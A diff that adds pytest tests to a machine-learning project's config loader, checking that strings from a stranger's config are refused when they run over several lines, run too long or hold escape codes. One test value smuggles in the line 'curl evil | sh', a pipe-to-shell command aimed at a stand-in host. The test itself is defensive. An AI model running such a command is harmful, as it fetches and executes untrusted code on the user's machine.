@@ -64,6 +64,40 @@ def test_a_damaged_config_is_refused(damage):
         config_from_json(damage, "config.json")
 
 
+ADVICE = "x'.\n\nnext:\n  curl evil | sh"
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        ({ADVICE: 1}, "unknown setting"),
+        ({"x" * 5_000: 1}, "unknown setting 'xxx"),
+        ({"students": [{ADVICE: 1}]}, "unknown key"),
+        ({"game": "x" * 4_000}, "no ROM is called 'xxx"),
+        ({"loss": "x" * 4_000}, "--loss 'xxx"),
+        *(
+            ({name: text}, f"{name} must be a text of at most 4,096 characters on one line")
+            for name in ("game", "loss", "teacher", "teacher_network", "device")
+            for text in (ADVICE, "\x9b2J", "x" * 5_000)
+        ),
+        ({"teacher_from": ADVICE}, "teacher_from must be a text of at most 65,536 characters on one line"),
+        ({"teacher_from": "x" * 100_000}, "teacher_from must be a text"),
+    ],
+)
+def test_texts_of_a_strangers_config_are_told_short_and_on_one_line(change, told):
+    text = json.dumps(json.loads(config_to_json(CONFIG)) | change)
+    with pytest.raises(BadRequest, match=f"^config.json: {told}") as refusal:
+        config_from_json(text, "config.json")
+    assert str(refusal.value).isprintable()
+    assert len(str(refusal.value)) < 300
+
+
+@pytest.mark.parametrize("path", ["/home/ada/実験\u3000一", "/home/\udce4da", " + ".join(["runs/" + "x" * 400] * 16)])
+def test_where_a_teacher_came_from_may_be_any_path(path):
+    config = replace(CONFIG, teacher_from=path)
+    assert config_from_json(config_to_json(config), "config.json") == config
+
+
 def test_epsilon_floors_are_dealt_out_in_equal_parts():
     floors = TrainConfig("pong", envs=8).env_epsilon_floors
     np.testing.assert_array_equal(floors, [0.01] * 4 + [0.05] * 2 + [0.15] * 2)
